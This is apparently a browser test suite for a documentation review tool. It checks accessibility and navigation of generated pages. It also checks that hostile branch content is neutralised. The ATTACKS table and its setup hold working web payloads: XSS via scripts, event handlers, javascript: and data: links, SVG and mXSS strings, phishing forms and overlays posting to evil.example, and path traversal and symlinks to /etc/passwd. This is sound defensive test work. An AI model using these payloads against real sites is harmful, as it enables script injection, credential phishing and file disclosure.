// A review as a reviewer meets it: every kind of page with axe in light and dark, keys, the switch
// between versions, without scripts, from the disk, on a phone; and every attack that the content of
// a branch may try, in a real browser.

import assert from 'node:assert/strict'
import { execFile } from 'node:child_process'
import { mkdir, mkdtemp, readFile, readdir, rm, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { after, before, describe, test } from 'node:test'
import { promisify } from 'node:util'

import {
  SCHEMES, accessibility, binary, check, launch, openPage, screenshot, serve, visit as visitIn,
} from './harness.mjs'

const run = promisify(execFile)

const BOOK = `[book]
title = "Product"
src = "docs"
`

const PIXEL = (value) =>
  Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><rect width="${value}" height="20"/></svg>`,
  )

const lines = (from, to) =>
  Array.from({ length: to - from }, (_, at) => `Paragraph ${from + at} says something.\n`).join('\n')

const OLD = {
  'docs/index.md': '# Product\n\nThe first page.\n',
  'docs/edited.md':
    `# Edited\n\n${lines(0, 12)}\n## Old heading\n\nIt is gone.\n\n### Deeper\n\nGone, too.\n\n` +
    '## Table\n\n| Name | Value |\n|---|---|\n| one | 1 |\n| two | 2 |\n\n' +
    '```rust\nfn main() {\n    old();\n}\n```\n\n- first\n- second\n- third\n\n' +
    'A paragraph that will move to another place of the page.\n\n## End\n\nThe end of it.\n',
  'docs/deleted.md': '# Deleted\n\n## Part\n\nNobody needs this.\n\n#### Small part\n\nNor this.\n',
  'docs/moved.md': `# Moved\n\n${lines(20, 24)}`,
  'docs/image.md': '# Image\n\n![A bar](bar.svg)\n',
  'docs/bar.svg': PIXEL(10),
  'docs/front.md': '---\ndescription: What it was.\ntags: [one, two]\n---\n# Front\n\nThe same text.\n',
  'docs/findings.md': '# Findings\n\nA page without any.\n',
}

const NEW = {
  'docs/edited.md':
    '# Edited\n\nA paragraph that will move to another place of the page.\n\n' +
    `${lines(0, 5)}\nParagraph 5 says an **unlike** thing.\n\n${lines(6, 12)}\n` +
    '## Table\n\n| Name | Value |\n|---|---|\n| one | 11 |\n| two | 2 |\n| three | 3 |\n\n' +
    '```rust\nfn main() {\n    new();\n}\n```\n\n- first\n- third\n- fourth\n\n## End\n\nThe *end* of it.\n',
  'docs/added.md': '# Added\n\n> [!NOTE]\n> A note.\n\nNew words[^1].\n\n[^1]: A footnote.\n',
  'docs/moved/here.md': `# Moved\n\n${lines(20, 24)}\nAnd more.\n`,
  'docs/bar.svg': PIXEL(30),
  'docs/image.md': '# Image\n\n![A longer bar](bar.svg)\n',
  'docs/front.md': '---\ndescription: What it is.\ntags: [one, three]\n---\n# Front\n\nThe same text.\n',
  'docs/findings.md': '# Findings\n\nA page with [one](missing.md) and [another](edited.md#nowhere).\n',
}

/** What a page says that is to run: any of it would be seen as `window.ran`. */
const RUN = 'window.ran=1'
const EVIL = 'https://evil.example/'

const ATTACKS = {
  script:
    `<script>${RUN}</script>\n\n<script src="${EVIL}x.js"></script>\n\n<scr<script>ipt>${RUN}</script>\n\n` +
    `Text <script>${RUN}</script> in a line.\n\n<noscript><p title="</noscript><img src=x onerror=${RUN}>"></p></noscript>\n\n` +
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></table></mtext></math>\n\n` +
    `<template><script>${RUN}</script></template>\n`,
  'event handlers':
    `<img src=x onerror="${RUN}">\n\n<p onclick="${RUN}" onmouseover="${RUN}" onfocus="${RUN}" tabindex=0 autofocus>Click</p>\n\n` +
    `<details open ontoggle="${RUN}"><summary>Open</summary>x</details>\n\n<video src="${EVIL}v.mp4" onerror="${RUN}" autoplay></video>\n\n` +
    `<body onload="${RUN}">\n\n<div onanimationstart="${RUN}" class="spin">x</div>\n\n<a href="edited.md" onclick="${RUN}">link</a>\n\n` +
    `# Heading {#id" onclick="${RUN}}\n\n![x](bar.svg "t\\" onload=\\"${RUN}")\n`,
  'links that run':
    `[one](javascript:${RUN}) [two](JaVaScRiPt:${RUN}) [three](<java\tscript:${RUN}>) [four](data:text/html,<script>${RUN}</script>)\n\n` +
    `<a href="javascript:${RUN}">five</a> <a href="java&#10;script:${RUN}">six</a> <a href="&#1;javascript:${RUN}">seven</a>\n\n` +
    `<a href="vbscript:x">eight</a> <a xlink:href="javascript:${RUN}">nine</a> [ten]: javascript:${RUN}\n\n[eleven][e] <javascript:${RUN}>\n\n[e]: javascript:${RUN}\n`,
  svg:
    `![evil](evil.svg) <img src="evil.svg">\n\n<svg onload="${RUN}"><script>${RUN}</script><a href="javascript:${RUN}"><text y=9>x</text></a>` +
    `<foreignObject><iframe src="${EVIL}"></iframe></foreignObject><use href="${EVIL}x.svg#a"/><animate attributeName="href" to="javascript:${RUN}"/></svg>\n\n` +
    `<object data="evil.svg"></object><embed src="evil.svg"><iframe src="evil.svg"></iframe>\n`,
  iframe:
    `<iframe src="${EVIL}"></iframe>\n\n<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>\n\n<object data="${EVIL}x"></object>\n\n` +
    `<embed src="${EVIL}x">\n\n<frameset><frame src="${EVIL}"></frameset>\n\n<portal src="${EVIL}"></portal>\n`,
  'meta refresh':
    `<meta http-equiv="refresh" content="0;url=${EVIL}">\n\n<base href="${EVIL}">\n\n` +
    `<meta http-equiv="Content-Security-Policy" content="script-src *">\n\n<link rel="prefetch" href="${EVIL}p"><link rel="dns-prefetch" href="${EVIL}">\n`,
  form:
    `<form action="${EVIL}" method="post"><input name="password" autofocus><button formaction="javascript:${RUN}">Sign in</button></form>\n\n` +
    `<button form="x" formaction="${EVIL}">Approve</button> <select><option>x</option></select> <textarea>x</textarea>\n\n<isindex action="${EVIL}">\n`,
  'style that hides or imitates':
    `<style>body { display: none } .review-bar { visibility: hidden } @import url(${EVIL}x.css);</style>\n\n` +
    `<div style="position:fixed;inset:0;background:white;z-index:99">Nothing changed.</div>\n\n` +
    `<header class="review-bar" id="main"><a class="review-home" href="${EVIL}">Overview</a></header>\n\n` +
    `<div class="change inserted" id="change-1" data-change="1"><ins>fake</ins></div>\n\n<ul class="review-findings"><li class="advice"><b>Approved</b></li></ul>\n\n` +
    `<link rel="stylesheet" href="${EVIL}x.css">\n\n<div class="visually-hidden" hidden aria-hidden="true">hidden from readers</div>\n\n` +
    `<font color="white" size="1">white</font> <table background="${EVIL}b.png"><tr><td>x</td></tr></table> <img src="${EVIL}pixel.png" width=1 height=1>\n\n` +
    '::: note {.review-bar #main style="position:fixed"}\nx\n:::\n\nText\u202ereversed\u202c and\u200b hidden.\n',
  traversal:
    '[up](../../../../etc/passwd) ![up](../../../../etc/passwd) ![secret](../../secret.svg) <img src="../../secret.svg"> ' +
    '<img src="/etc/passwd"> <img src="file:///etc/passwd"> [down](file:///etc/passwd)\n\n{{#include ../../secret.txt}}\n\n{{#include /etc/passwd}}\n\n' +
    '{{#include linked.txt}}\n\n![linked](linked.svg) [a page](linked.md)\n\n{{#include folder/secret.txt}}\n\n![up](%2e%2e/%2e%2e/secret.svg) [up](..%2f..%2fsecret.txt)\n',
  'front matter':
    `---\ntitle: "<script>${RUN}</script><img src=x onerror=${RUN}>"\ndescription: "</title><script>${RUN}</script>"\ntags: ["<iframe src=${EVIL}>"]\n` +
    `extra: { "<b onclick=${RUN}>": "<svg onload=${RUN}>" }\n---\n# Front <img src=x onerror=${RUN}>\n\nText.\n`,
}

const SECRET = 'what nobody may see, 7c1f'
/** A branch may be called this. */
const HEAD = '"><img/src=x/onerror=window.ran=1>'

let browser, folder, server

before(async () => {
  browser = await launch()
  folder = await mkdtemp(join(tmpdir(), 'copydesk-review-'))
  const source = join(folder, 'source')
  const env = { PATH: process.env.PATH, HOME: folder, GIT_CONFIG_GLOBAL: '/dev/null', NO_COLOR: '1' }
  const git = (...command) =>
    run('git', ['-c', 'user.name=Ada', '-c', 'user.email=ada@example.org', '-c', 'init.defaultBranch=main', ...command], { cwd: source, env })
  const write = async (files) => {
    for (const [path, text] of Object.entries(files)) {
      await mkdir(dirname(join(source, path)), { recursive: true })
      await writeFile(join(source, path), text)
    }
  }
  const commit = async (message) => {
    await git('add', '--all')
    await git('commit', '--quiet', '--message', message)
  }
  const review = (name, ...args) =>
    run(binary(), ['review', 'site', ...args, '--base', 'main', '--root', source, '--out', join(folder, 'site', name)], { env })
  await write({ 'book.toml': BOOK, ...OLD, 'docs/attacks/edited.md': '# Attacks\n' })
  await git('init', '--quiet')
  await commit('One')
  await git('checkout', '--quiet', '-b', 'topic')
  await git('rm', '--quiet', 'docs/deleted.md', 'docs/moved.md')
  await write(NEW)
  await commit('Two')

  // Threads of every kind: open, blocking, answered, settled, a suggestion, with text that is gone, on
  // a page as a whole, on the change as a whole.
  const said = async (...command) =>
    (await run(binary(), ['review', ...command], { cwd: source, env })).stdout.trim()
  await git('config', 'user.name', 'Ada')
  await git('config', 'user.email', 'ada@example.org')
  await git('checkout', '--quiet', '-b', 'talk')
  await write({ 'docs/edited.md': `${NEW['docs/edited.md']}\nThis sentence will be gone.\n` })
  await commit('Talk')
  await run(binary(), ['review', 'open'], { cwd: source, env })
  const line = (text) => String(NEW['docs/edited.md'].split('\n').findIndex((line) => line.includes(text)) + 1)
  const place = (text) => `docs/edited.md:${line(text)}`
  const first = await said('comment', place('unlike'), '--blocking', '-m', 'Is it **so**? [See](https://example.org)\n\n- a list\n- `code`')
  await said('comment', '--reply', first, '-m', 'It is.')
  await said('resolve', await said('comment', place('another place'), '-m', 'Settled.'))
  await said('suggest', place('*end*'), '--replace', 'The very *end* of it.', '-m', 'Clearer.')
  await said('comment', place('| three'), '-m', 'A cell.')
  await said('comment', place('new();'), '-m', 'A line of code.')
  await said('comment', `docs/edited.md:${NEW['docs/edited.md'].split('\n').length + 1}`, '-m', 'Its text is gone.')
  await said('comment', 'docs/edited.md', '-m', 'The page as a whole.')
  await said('comment', '-m', 'The change as a whole.')
  await write({ 'docs/edited.md': NEW['docs/edited.md'] })
  await commit('Gone')

  // Outside of the repository stands what nobody may see.
  await writeFile(join(folder, 'secret.txt'), SECRET)
  await writeFile(join(folder, 'secret.svg'), `<svg xmlns="http://www.w3.org/2000/svg"><desc>${SECRET}</desc></svg>`)
  await writeFile(join(folder, 'secret.md'), `# ${SECRET}\n`)
  await git('checkout', '--quiet', '-b', HEAD, 'main')
  const pages = Object.entries(ATTACKS).map(([name, text]) => [`docs/attacks/${name}.md`, text.startsWith('---') ? text : `# ${name}\n\n${text}`])
  await write(Object.fromEntries(pages))
  await write({
    'docs/attacks/evil.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${RUN}"><script>${RUN}</script><image href="${EVIL}i.png"/></svg>`,
    'docs/attacks/bar.svg': PIXEL(5),
    [`docs/attacks/<img src=x onerror=${RUN}>.md`]: '# A name\n\nText.\n',
    'docs/attacks/%2e%2e%2f"#?.md': '# Another name\n\nText.\n',
    'theme/extra.css': 'body { display: none }',
    'theme/extra.js': RUN,
    'theme/page.html': `<script>${RUN}</script>`,
  })
  const links = { 'linked.txt': 'secret.txt', 'linked.svg': 'secret.svg', 'linked.md': 'secret.md' }
  for (const [from, to] of Object.entries(links)) await symlink(join('..', '..', '..', to), join(source, 'docs', 'attacks', from))
  await symlink(folder, join(source, 'docs', 'attacks', 'folder'))
  await symlink('/etc/passwd', join(source, 'docs', 'attacks', 'passwd.md'))
  await commit('Attack')
  await review('kinds', 'topic')
  await review('none', 'main')
  await review('threads', 'talk')
  await review('attacks', HEAD)
  // The same from the working tree, where a link leads out of the folder on the disk.
  await review('tree')
  server = await serve(join(folder, 'site'))
})

after(async () => {
  await browser?.close()
  await server?.close()
  if (folder) await rm(folder, { recursive: true, force: true })
})

const PAGES = {
  overview: 'kinds/index.html',
  'no changes': 'none/index.html',
  edited: 'kinds/pages/docs/edited.md.html',
  'edited, side by side': 'kinds/pages/docs/edited.md.sides.html',
  deleted: 'kinds/pages/docs/deleted.md.html',
  'deleted, side by side': 'kinds/pages/docs/deleted.md.sides.html',
  added: 'kinds/pages/docs/added.md.html',
  'added, side by side': 'kinds/pages/docs/added.md.sides.html',
  moved: 'kinds/pages/docs/moved/here.md.html',
  'image changed': 'kinds/pages/docs/image.md.html',
  'image changed, side by side': 'kinds/pages/docs/image.md.sides.html',
  'front matter': 'kinds/pages/docs/front.md.html',
  findings: 'kinds/pages/docs/findings.md.html',
  'overview with threads': 'threads/index.html',
  threads: 'threads/pages/docs/edited.md.html',
  'threads, side by side': 'threads/pages/docs/edited.md.sides.html',
}

/** What a page is to blame for. How large an image of a branch is, only the image says. */
async function blame(session) {
  const found = await check(session, { accessible: false })
  const images = await session.page.locator('.review-text img').count()
  return found.filter((problem) => images === 0 || !problem.startsWith('the layout shifted'))
}

const visit = (path, options, use) =>
  visitIn(browser, path.includes('://') ? path : server.url(path), options, use, blame)

describe('every kind of page of a review', () => {
  for (const scheme of SCHEMES) {
    test(`is accessible, ${scheme}`, async () => {
      const session = await openPage(browser, { scheme })
      try {
        for (const [name, path] of Object.entries(PAGES)) {
          await session.page.goto(server.url(path))
          const folds = session.page.locator('details:not([open])')
          await folds.evaluateAll((all) => all.forEach((fold) => (fold.open = true)))
          assert.deepEqual(await accessibility(session.page, { everything: true }), [], name)
          if (process.env.SCREENSHOTS) await screenshot(session.page, `review-${name.replace(/\W+/g, '-')}-${scheme}`)
        }
        assert.deepEqual(session.problems, [])
      } finally {
        await session.close()
      }
    })
  }

  test('fits on a phone', async () => {
    const session = await openPage(browser, { width: 360, height: 740 })
    try {
      for (const path of Object.values(PAGES)) {
        await session.page.goto(server.url(path))
        assert.deepEqual(await blame(session), [], path)
      }
    } finally {
      await session.close()
    }
  })

  test('is there from the disk', async () => {
    const file = (path) => pathToFileURL(join(folder, 'site', path)).href
    await visit(file(PAGES.overview), {}, async (page) => {
      await page.locator('a', { hasText: 'Image' }).click()
      await page.waitForURL(file(PAGES['image changed']))
      const widths = await page.locator('.review-text img').evaluateAll((all) => all.map((image) => image.naturalWidth))
      assert.deepEqual(widths, [40, 40])
    })
  })

  test('is there without scripts', async () => {
    await visit(PAGES.overview, { javaScript: false }, async (page) => {
      await page.locator('a', { hasText: 'Edited' }).first().click()
      await page.waitForURL(server.url(PAGES.edited))
      assert.ok(await page.locator('.review-text ins').first().isVisible())
      assert.ok(await page.locator('.review-versions').isHidden())
      await page.locator('.review-views a').nth(1).click()
      await page.waitForURL(server.url(PAGES['edited, side by side']))
      assert.ok(await page.locator('.pair.change').first().isVisible())
    })
  })

  test('by keyboard: the next change, the one before, the next page, the page before', async () => {
    await visit(PAGES.edited, {}, async (page) => {
      const at = () => page.evaluate(() => Number(document.activeElement.dataset.change ?? 0))
      await page.keyboard.press('n')
      const first = await at()
      assert.ok(first > 0)
      await page.keyboard.press('n')
      const second = await at()
      assert.ok(second > first, `${second} after ${first}`)
      await page.keyboard.press('p')
      assert.equal(await at(), first)
      const next = await page.locator('.review-pager [rel=next]').evaluate((link) => link.href)
      await page.keyboard.press('N')
      await page.waitForURL(next)
      await page.keyboard.press('P')
      await page.waitForURL(server.url(PAGES.edited))
    })
  })

  test('before, after, and both', async () => {
    await visit(PAGES.edited, {}, async (page) => {
      const shown = async (text) => (await page.locator('.review-text').innerText()).includes(text)
      const press = (version) => page.locator(`button[data-version=${version}]`).click()
      assert.ok((await shown('Old heading')) && (await shown('unlike')))
      await press('before')
      assert.ok((await shown('Old heading')) && !(await shown('unlike')))
      await press('after')
      assert.ok(!(await shown('Old heading')) && (await shown('unlike')))
      assert.equal(await page.locator('button[data-version=after]').getAttribute('aria-pressed'), 'true')
      await press('both')
      assert.ok((await shown('Old heading')) && (await shown('unlike')))
    })
  })

  test('threads stand at their places, and the list leads to each', async () => {
    for (const path of [PAGES.threads, PAGES['threads, side by side']]) {
      await visit(path, {}, async (page) => {
        assert.equal(await page.locator('[data-thread]').count(), 7)
        assert.equal(await page.locator('.review-above [data-thread]').count(), 2, 'what has no place stands above')
        assert.equal(await page.locator('.thread.blocking').count(), 1)
        assert.equal(await page.locator('.thread.settled details:not([open])').count(), 1)
        assert.match(await page.locator('.thread-suggestion').innerText(), /very/)
        for (const link of await page.locator('.review-threads a').all()) {
          await link.click()
          assert.ok(await page.evaluate(() => document.querySelector(':target')?.matches('[data-thread]')))
        }
      })
    }
    await visit(PAGES['overview with threads'], {}, async (page) => {
      const list = await page.locator('.review-findings').allInnerTexts()
      assert.match(list.join(), /The change as a whole\.[^]*blocks the merge[^]*the text is gone/)
    })
  })

  test('a finding leads to its change', async () => {
    await visit(PAGES.findings, {}, async (page) => {
      await page.locator('.review-findings a[href^="#change-"]').first().click()
      assert.ok(await page.evaluate(() => document.querySelector(':target')?.matches('[data-change]')))
    })
  })
})

/** What stands in a review that no content may put there. */
const foreign = () => {
  const found = []
  const text = document.querySelector('.review-text')
  const forbidden = 'script, style, link, meta, base, iframe, frame, object, embed, form, input, button, select, textarea, svg, math, video, audio, template, portal, noscript'
  for (const element of text.querySelectorAll(forbidden)) found.push(element.outerHTML)
  for (const element of text.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on') || name === 'style' || name === 'background') found.push(`${name}=${value}`)
      if (name === 'id' && !/^change-\d+$/.test(value)) found.push(`id=${value}`)
    }
    if (getComputedStyle(element).position === 'fixed') found.push(`fixed: ${element.outerHTML}`)
  }
  for (const link of document.querySelectorAll('a[href]')) {
    const url = new URL(link.href)
    if (!['http:', 'https:', 'mailto:'].includes(url.protocol)) found.push(link.href)
  }
  for (const image of document.querySelectorAll('img')) {
    if (image.src && new URL(image.src).origin !== location.origin) found.push(image.src)
  }
  const ids = [...document.querySelectorAll('[id]')].map((element) => element.id)
  found.push(...ids.filter((id, at) => ids.indexOf(id) !== at).map((id) => `twice: ${id}`))
  for (const selector of ['.review-bar', '.review-home', '#main', '.review-foot']) {
    if (document.querySelectorAll(selector).length !== 1) found.push(`not one ${selector}`)
  }
  for (const selector of ['.review-bar', 'h1', '.review-text']) {
    const box = document.querySelector(selector).getBoundingClientRect()
    if (box.width === 0 || box.height === 0) found.push(`${selector} is hidden`)
  }
  if (window.ran) found.push('it ran')
  return found
}

describe('an attack runs nothing, asks for nothing, and hides nothing:', () => {
  const names = [...Object.keys(ATTACKS), `<img src=x onerror=${RUN}>`, '%2e%2e%2f"#?']
  for (const name of names) {
    test(name, async () => {
      const session = await openPage(browser, {})
      const requests = []
      session.page.on('request', (request) => requests.push(request.url()))
      try {
        for (const view of ['', '.sides']) {
          const path = `attacks/pages/docs/attacks/${encodeURIComponent(name)}.md${view}.html`
          const url = server.url(path)
          const response = await session.page.goto(url)
          assert.equal(response.status(), 200, path)
          // Whatever answers to a pointer or a click is tried, and nothing leads away.
          await session.page.locator('.review-text').evaluate((text) => {
            for (const element of text.querySelectorAll(':not(a, summary)')) {
              for (const type of ['mouseover', 'focus', 'click', 'animationstart']) element.dispatchEvent(new Event(type))
            }
          })
          await session.page.waitForTimeout(50)
          assert.equal(session.page.url(), new URL(url).href)
          assert.deepEqual(await session.page.evaluate(foreign), [], path)
          assert.equal(await session.page.title().then((title) => title.includes(HEAD)), true)
          assert.deepEqual(await blame(session), [])
        }
        const known = /\/attacks\/(?:assets|files\/(?:old|new)|pages)\//
        assert.deepEqual(requests.filter((url) => !known.test(url) && !url.startsWith('data:')), [])
        assert.equal(session.context.pages().length, 1)
      } finally {
        await session.close()
      }
    })
  }

  test('names of branches, files and titles on the overview', async () => {
    for (const site of ['attacks', 'tree']) {
      await visit(`${site}/index.html`, {}, async (page) => {
        assert.equal(await page.evaluate(() => window.ran), undefined)
        assert.ok(await page.locator('.review-bar').isVisible())
        assert.equal(await page.locator('main script, main img, main iframe, main [onclick]').count(), 0)
      })
    }
  })

  test('the image of a branch, opened by itself, runs nothing', async () => {
    const session = await openPage(browser, {})
    try {
      await session.page.goto(server.url('attacks/pages/docs/attacks/svg.md.html'))
      const images = await session.page.locator('.review-text img').evaluateAll((all) => all.map((image) => image.src))
      assert.ok(images.every((url) => url.startsWith(server.origin)))
      assert.equal(await session.page.evaluate(() => window.ran), undefined)
      assert.deepEqual(session.problems, [])
    } finally {
      await session.close()
    }
  })

  test('a symbolic link out of the repository: as a page, an include, an image, a folder', async () => {
    for (const site of ['attacks', 'tree']) {
      const at = (path) => `${site}/pages/docs/attacks/${path}.html`
      // What a link leads to is no page; that it is there is a finding.
      for (const page of ['passwd.md', 'linked.md', 'folder/secret.md']) {
        const answer = await fetch(server.url(at(page)))
        assert.equal(answer.status, 404, page)
      }
      await visit(`${site}/index.html`, {}, async (page) => {
        const text = await page.locator('main').innerText()
        assert.ok(!text.includes(SECRET))
        assert.match(text, /docs\/attacks\/passwd\.md/)
        assert.equal(await page.locator('a[href*="passwd"], a[href*="linked"]').count(), 0)
      })
      for (const sides of ['', '.sides']) {
        await visit(at(`traversal.md${sides}`), {}, async (page) => {
          const text = await page.locator('.review-text').innerText()
          // The include stays as it is written, and images are named.
          assert.match(text, /\{\{#include linked\.txt\}\}/)
          assert.ok(!text.includes(SECRET))
          assert.equal(await page.locator('.review-text img[src]').count(), 0)
          assert.equal(await page.locator('.review-text a[href*="passwd"], .review-text a[href*="secret"]').count(), 0)
        })
      }
      for (const path of ['linked.svg', 'linked.txt', 'folder/secret.svg']) {
        const answer = await fetch(server.url(`${site}/files/new/docs/attacks/${path}`))
        assert.equal(answer.status, 404, path)
      }
    }
  })

  test('nothing from outside of the repository is in the review', async () => {
    const passwd = (await readFile('/etc/passwd', 'utf8')).split('\n')[0]
    for (const site of ['attacks', 'tree']) {
      const files = await readdir(join(folder, 'site', site), { recursive: true, withFileTypes: true })
      assert.ok(files.length > 20)
      for (const file of files.filter((file) => !file.isDirectory())) {
        assert.ok(file.isFile(), `${file.name} is no link`)
        const text = await readFile(join(file.parentPath, file.name), 'utf8')
        for (const secret of [SECRET, passwd]) {
          assert.ok(!text.includes(secret), `${file.parentPath}/${file.name} shows what stands outside`)
        }
      }
    }
    assert.deepEqual((await readdir(folder)).sort(), ['secret.md', 'secret.svg', 'secret.txt', 'site', 'source'])
  })
})
